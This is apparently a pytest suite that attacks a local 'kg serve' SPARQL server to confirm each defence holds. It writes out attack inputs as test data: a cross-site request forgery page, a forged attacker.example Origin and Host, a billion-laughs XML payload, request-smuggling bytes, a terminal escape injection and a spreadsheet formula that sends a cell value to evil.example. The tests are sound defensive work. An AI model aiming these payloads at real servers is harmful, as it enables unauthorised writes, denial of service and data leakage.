"""kg serve under attack: each defect a tester found (issue 13) reproduced on loopback, bounded in
count and time, against a real ``kg serve`` process. Only HTTP is used, so these hold for any
implementation of the server."""

from __future__ import annotations

import json
import shutil
import signal
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from served import Served, eventually, raw_http

COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
#: Every pair of triples: about 4·10^8 rows on the built store, far more than 3 s of work.
CROSS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?p ?x . ?b ?q ?y }"
MARKER = "ASK { <urn:kg-test:a> <urn:kg-test:b> <urn:kg-test:c> }"


def request(base: str, path: str, data: bytes | None = None, headers: dict | None = None,
            method: str | None = None, timeout: float = 20) -> tuple[int, dict, bytes]:
    """(status, headers, body) of one HTTP request; errors are answers too."""
    call = urllib.request.Request(base + path, data=data, headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(call, timeout=timeout) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def query(base: str, text: str, accept: str = "application/sparql-results+json", **options):
    return request(base, "/query?" + urllib.parse.urlencode({"query": text}), headers={"Accept": accept}, **options)


def update(base: str, text: str, headers: dict | None = None):
    return request(base, "/update", text.encode(), {"Content-Type": "application/sparql-update", **(headers or {})})


def asks(base: str, text: str) -> bool:
    status, _, body = query(base, text)
    assert status == 200, body
    return json.loads(body)["boolean"]


@pytest.fixture(scope="module")
def ro(built_store_path):
    served = Served(built_store_path, "--timeout", "3", "--workers", "2", "--max-answer-mb", "1",
                    "--max-memory-mb", "300", "--idle-timeout", "2", "--max-connections", "16")
    yield served
    served.stop()


@pytest.fixture(scope="module")
def rw_path(built_store_path, tmp_path_factory):
    path = tmp_path_factory.mktemp("rw") / "store"
    shutil.copytree(built_store_path, path)
    return path


@pytest.fixture(scope="module")
def rw(rw_path):
    served = Served(rw_path, "--allow-update", "--timeout", "3", "--max-body-mb", "1", "--max-memory-mb", "400")
    yield served
    served.stop()


# -- 1. reads during a bulk ingest through the server ---------------------------------------------

def test_reads_are_answered_and_fresh_during_a_bulk_ingest_through_the_server(built_store_path, tmp_path, run_kg):
    from benchmarks.corpus import generate

    path = tmp_path / "store"
    shutil.copytree(built_store_path, path)
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text("".join(json.dumps(record) + "\n" for record, _ in generate(300, seed=12)), encoding="utf-8")
    # a user's update rebuilds the union of the graphs in the same transaction (seconds on a loaded
    # machine at this size): the limit here is for a hung server, not a speed target
    served = Served(path, "--allow-update", "--timeout", "20")
    try:
        options = ["--endpoint", f"{served.base}/query", "--update-endpoint", f"{served.base}/update",
                   "--graph-store", f"{served.base}/store"]
        outcome: dict = {}
        ingest = threading.Thread(target=lambda: outcome.update(result=run_kg("ingest", str(corpus), *options)))
        ingest.start()
        statuses = []
        while ingest.is_alive() and len(statuses) < 2000:
            statuses.append(query(served.base, "ASK { ?s ?p ?o }")[0])
            time.sleep(0.05)
        ingest.join(300)
        assert outcome["result"][0] == 0, outcome["result"][2]
        assert len(statuses) > 10 and set(statuses) == {200}
        # every article is there, and a write after the bulk load is seen within a second
        assert eventually(lambda: asks(served.base, "ASK { ?article "
                                       "<http://purl.org/dc/terms/identifier> 'syn12-000300' }"), 2.0)
        answer = update(served.base, "INSERT DATA { GRAPH <urn:kg-test:g> { <urn:kg-test:a> <urn:kg-test:b> "
                        "<urn:kg-test:c> } }")
        assert answer[0] == 204, answer
        assert eventually(lambda: asks(served.base, MARKER))
    finally:
        served.stop()



def test_snapshots_left_by_a_killed_writing_server_are_cleared_by_the_next(built_store_path, tmp_path):
    path = tmp_path / "store"
    shutil.copytree(built_store_path, path)
    views = path / "kg-serve-views"
    served = Served(path, "--allow-update")
    for n in range(3):  # a few snapshots, as a bulk load makes them
        assert update(served.base, f"INSERT DATA {{ GRAPH <urn:kg-test:g{n}> {{ <urn:kg-test:a> "
                      f"<urn:kg-test:b> {n} }} }}")[0] == 204
        assert eventually(lambda: asks(served.base, f"ASK {{ <urn:kg-test:a> <urn:kg-test:b> {n} }}"))
    served.process.send_signal(signal.SIGKILL)
    served.process.wait(10)
    left = sorted(p.name for p in views.iterdir())
    assert left, "a killed server leaves its snapshots behind"
    (views / "999").mkdir()  # a number above any the next server counts to
    served = Served(path, "--allow-update")
    try:
        assert asks(served.base, "ASK { <urn:kg-test:a> <urn:kg-test:b> 2 }")
        assert not (views / "999").exists() and len(list(views.iterdir())) <= 3
    finally:
        served.stop()
    assert not views.exists()


# -- 2. cross-site writes and DNS rebinding --------------------------------------------------------

class _Attacker(BaseHTTPRequestHandler):
    target = ""

    def do_GET(self) -> None:
        page = f"""<!doctype html><body>
<form id=f method=POST action="{self.target}/update"><input name=update
 value="INSERT DATA {{ GRAPH <urn:kg-test:g> {{ <urn:kg-test:a> <urn:kg-test:b> <urn:kg-test:c> }} }}"></form>
<script>
fetch("{self.target}/store?graph=urn:kg-test:g", {{method: "POST", mode: "no-cors",
  headers: {{"Content-Type": "text/plain"}}, body: "<urn:kg-test:a> <urn:kg-test:b> <urn:kg-test:c> ."}})
  .finally(() => document.getElementById("f").submit());
</script></body>""".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, *args) -> None:
        pass


def test_a_page_on_another_origin_cannot_write_in_a_real_browser(chromium, rw):
    handler = type("Attacker", (_Attacker,), {"target": rw.base})
    attacker = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        page = chromium.new_page()
        try:
            # wait for the form's POST to be answered, not just for the attacker's page to load: on a
            # loaded machine the page was closed before its script had submitted the form
            with page.expect_response(lambda response: response.url == f"{rw.base}/update", timeout=15000):
                page.goto(f"http://localhost:{attacker.server_address[1]}/")
        finally:
            page.close()
    finally:
        attacker.shutdown()
        attacker.server_close()
    time.sleep(1.0)  # past the time a committed write takes to show
    assert not asks(rw.base, MARKER)
    # the browser did reach the server, and was refused both times
    log = "".join(rw.log)
    assert '"POST /update HTTP/1.1" 403' in log and '"POST /store?graph=urn:kg-test:g HTTP/1.1" 403' in log


def test_form_encoded_updates_and_foreign_origins_are_refused(rw):
    form = urllib.parse.urlencode({"update": "INSERT DATA { GRAPH <urn:kg-test:g> { <urn:kg-test:a> "
                                   "<urn:kg-test:b> <urn:kg-test:c> } }"}).encode()
    status, _, body = request(rw.base, "/update", form, {"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 415 and b"form-encoded" in body
    status, _, body = update(rw.base, "INSERT DATA { GRAPH <urn:kg-test:g> { <urn:kg-test:a> <urn:kg-test:b> "
                             "<urn:kg-test:c> } }", {"Origin": "http://attacker.example"})
    assert status == 403 and b"another origin" in body
    assert not asks(rw.base, MARKER)


def test_requests_for_another_host_name_are_refused(ro):
    answer = raw_http(ro.base, b"GET /query?query=ASK%7B%7D HTTP/1.1\r\nHost: attacker.example:7878\r\n"
                      b"Connection: close\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 421") and b"attacker.example" in answer
    answer = raw_http(ro.base, b"GET /query?query=ASK%7B%7D HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200")


def test_a_token_guards_writes_when_set(rw_path, tmp_path, monkeypatch):
    path = tmp_path / "store"
    shutil.copytree(rw_path, path)
    monkeypatch.setenv("KG_SERVE_TOKEN", "s3cret")
    served = Served(path, "--allow-update")
    try:
        insert = "INSERT DATA { GRAPH <urn:kg-test:g> { <urn:kg-test:a> <urn:kg-test:b> <urn:kg-test:c> } }"
        assert update(served.base, insert)[0] == 401
        assert update(served.base, insert, {"Authorization": "Bearer wrong"})[0] == 401
        assert update(served.base, insert, {"Authorization": "Bearer s3cret"})[0] == 204
    finally:
        served.stop()


# -- 3. outbound requests -------------------------------------------------------------------------

class _Listener(BaseHTTPRequestHandler):
    """Records any request that reaches it: nothing should."""

    hits: list[str] = []

    def do_POST(self) -> None:
        self.hits.append(self.path)
        self.send_response(500)
        self.end_headers()

    do_GET = do_POST

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener():
    handler = type("Listener", (_Listener,), {"hits": []})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server, handler.hits
    server.shutdown()
    server.server_close()


def test_service_and_load_contact_no_other_host(ro, rw, listener, run_kg):
    server, hits = listener
    url = f"http://127.0.0.1:{server.server_address[1]}/sparql"
    status, _, body = query(ro.base, f"SELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}")
    assert status == 403 and b"SERVICE" in body
    status, _, body = query(ro.base, f"PREFIX x: <http://127.0.0.1:{server.server_address[1]}/> "
                            "SELECT * WHERE { \\u0053ERVICE x:sparql { ?s ?p ?o } }")
    assert status == 403
    assert update(rw.base, f"LOAD <{url}> INTO GRAPH <urn:kg-test:loaded>")[0] == 403
    code, out, err = run_kg("query", "--store", ":memory:", "-", stdin=f"SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }}")
    assert code == 2 and err.count("\n") == 1 and "SERVICE" in err and "Traceback" not in err
    assert hits == []


def test_an_allowed_service_that_fails_costs_one_request_not_a_worker(built_store_path):
    served = Served(built_store_path, "--allow-service", "127.0.0.1", "--workers", "1")
    try:
        status, _, body = query(served.base, "SELECT * WHERE { SERVICE <http://127.0.0.1:1/sparql> { ?s ?p ?o } }")
        assert status == 502 and b"failed" in body
        assert query(served.base, COUNT)[0] == 200
    finally:
        served.stop()
    assert not any("Traceback" in line for line in served.log)


# -- 5. entity expansion through the Graph Store Protocol ----------------------------------------

def test_rdf_xml_with_entity_declarations_is_refused_before_parsing(rw):
    laughs = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
              + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
              + ']><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e#">'
              '<rdf:Description rdf:about="urn:kg-test:a"><e:p>&i;</e:p></rdf:Description></rdf:RDF>')
    status, _, body = request(rw.base, "/store?graph=urn:kg-test:xml", laughs.encode(),
                              {"Content-Type": "application/rdf+xml"}, method="PUT")
    assert status == 400 and b"entity" in body
    assert query(rw.base, "ASK { GRAPH <urn:kg-test:xml> { ?s ?p ?o } }")[2].find(b"false") > 0


# -- 6. updates are bounded in time ---------------------------------------------------------------

def test_an_update_that_runs_too_long_is_stopped_and_commits_nothing(rw):
    started = time.monotonic()
    status, _, body = update(rw.base, "INSERT { GRAPH <urn:kg-test:cross> { ?a <urn:kg-test:p> ?b } } "
                             "WHERE { ?a ?p ?x . ?b ?q ?y }")
    assert status == 503 and b"timed out" in body
    assert time.monotonic() - started < 10
    assert update(rw.base, "INSERT DATA { GRAPH <urn:kg-test:after> { <urn:kg-test:x> <urn:kg-test:y> 1 } }")[0] == 204
    assert eventually(lambda: asks(rw.base, "ASK { <urn:kg-test:x> <urn:kg-test:y> 1 }"), 2.0)
    assert not asks(rw.base, "ASK { GRAPH <urn:kg-test:cross> { ?s ?p ?o } }")


# -- 7. bodies, connections, answers and memory ---------------------------------------------------

def test_a_negative_content_length_is_refused_without_reading(rw):
    answer = raw_http(rw.base, b"POST /update HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/sparql-update"
                      b"\r\nContent-Length: -1\r\n\r\n" + b"x" * 100_000, half_close=True)
    assert answer.startswith(b"HTTP/1.1 400") and b"Content-Length" in answer


def test_a_body_over_the_limit_is_refused_before_it_is_sent(rw):
    answer = raw_http(rw.base, b"PUT /store?graph=urn:kg-test:big HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                      b"Content-Type: application/n-triples\r\nContent-Length: 2000000\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 413")


def test_an_unread_body_is_never_taken_for_a_request(ro):
    smuggled = b"GET /query?query=ASK%7B%7D HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    answer = raw_http(ro.base, b"POST /nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: "
                      + str(len(smuggled)).encode() + b"\r\n\r\n" + smuggled)
    assert answer.startswith(b"HTTP/1.1 404") and answer.count(b"HTTP/1.") == 1
    chunked = b"POST /query HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled
    answer = raw_http(ro.base, chunked)
    assert answer.startswith(b"HTTP/1.1 411") and answer.count(b"HTTP/1.") == 1


def test_http_0_9_is_not_answered_as_such(ro):
    answer = raw_http(ro.base, b"GET /query?query=ASK%7B%7D\r\n")
    assert answer.startswith(b"HTTP/1.1 505") and b"0.9" in answer


def test_idle_connections_are_closed_and_the_number_of_connections_is_bounded(ro):
    import socket

    host, port = ro.base.removeprefix("http://").split(":")
    idle = socket.create_connection((host, int(port)), timeout=10)
    started = time.monotonic()
    assert idle.recv(100) == b""  # closed by the server after --idle-timeout 2
    assert time.monotonic() - started < 8
    idle.close()
    held = [socket.create_connection((host, int(port)), timeout=10) for _ in range(24)]
    try:
        time.sleep(0.5)
        refused = 0
        for connection in held:
            connection.settimeout(0.2)
            try:
                refused += connection.recv(100).startswith(b"HTTP/1.1 503")
            except TimeoutError:
                pass
        assert refused >= 24 - 16
    finally:
        for connection in held:
            connection.close()
    assert eventually(lambda: query(ro.base, COUNT)[0] == 200, 5.0)


def test_slow_queries_make_others_wait_briefly_then_hear_busy(ro):
    slow = [threading.Thread(target=query, args=(ro.base, CROSS)) for _ in range(2)]  # --workers 2
    for thread in slow:
        thread.start()
    time.sleep(0.5)
    started = time.monotonic()
    status, headers, _ = query(ro.base, COUNT)
    waited = time.monotonic() - started
    for thread in slow:
        thread.join(20)
    assert status == 503 and headers.get("Retry-After") == "1" and waited < 3.5
    assert query(ro.base, COUNT)[0] == 200


def test_an_answer_over_the_byte_limit_is_refused(ro):
    status, _, body = query(ro.base, "SELECT (GROUP_CONCAT(CONCAT(STR(?s), STR(?p), STR(?o))) AS ?all) "
                            "WHERE { ?s ?p ?o }")
    assert status == 400 and b"larger than 1 MiB" in body


def test_a_query_that_needs_too_much_memory_is_stopped(ro):
    status, _, body = query(ro.base, "SELECT ?a ?b ?x ?y WHERE { ?a ?p ?x . ?b ?q ?y } ORDER BY ?x ?y LIMIT 1")
    assert status == 503 and (b"memory" in body or b"timed out" in body)
    assert query(ro.base, COUNT)[0] == 200


# -- 10. a read-only server leaves the store to writers -------------------------------------------

def test_a_read_only_server_does_not_hold_the_store_and_sees_other_writers(rw_path, tmp_path, run_kg):
    path = tmp_path / "store"
    shutil.copytree(rw_path, path)
    served = Served(path)
    try:
        code, _, err = run_kg("query", "--store", str(path), "--allow-update", "-",
                              stdin="INSERT DATA { GRAPH <urn:kg-test:ext> { <urn:kg-test:e> <urn:kg-test:f> 2 } }")
        assert code == 0, err
        assert eventually(lambda: asks(served.base, "ASK { <urn:kg-test:e> <urn:kg-test:f> 2 }"), 3.0)
    finally:
        served.stop()


# -- 11, 12. the log: no raw escape codes, no tracebacks ------------------------------------------

def test_the_log_shows_escape_codes_as_text_and_no_tracebacks(rw):
    raw_http(rw.base, b"GET /\x1b]0;pwned\x07 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
    status, _, body = request(rw.base, "/store?graph=" + urllib.parse.quote("not an iri"), method="DELETE")
    assert status == 400 and b"not a valid graph IRI" in body
    for _ in range(20):  # clients that leave in the middle of an answer
        raw_http(rw.base, b"GET /store?default HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", read_timeout=0.01)
    assert eventually(lambda: query(rw.base, COUNT)[0] == 200, 20.0)
    time.sleep(0.3)
    log = "".join(rw.log)
    assert "\x1b" not in log and "\\x1b]0;pwned" in log
    assert "Traceback" not in log


# -- 8. CSV for a spreadsheet ---------------------------------------------------------------------

def test_a_browser_downloads_spreadsheet_safe_csv_programs_get_w3c_csv(ro):
    text = 'SELECT ?cell WHERE { VALUES ?cell { "=HYPERLINK(\\"https://evil.example/\\"&B2)" } }'
    path = "/query?" + urllib.parse.urlencode({"query": text, "format": "csv"})
    status, headers, body = request(ro.base, path, headers={"Sec-Fetch-Mode": "navigate", "Accept": "text/html"})
    assert status == 200 and body.splitlines()[1].startswith(b"\"'=HYPERLINK")
    assert headers["Content-Disposition"].startswith("attachment")
    status, headers, body = request(ro.base, path, headers={"Accept": "text/csv"})
    assert status == 200 and body.splitlines()[1].startswith(b'"=HYPERLINK') and "Content-Disposition" not in headers
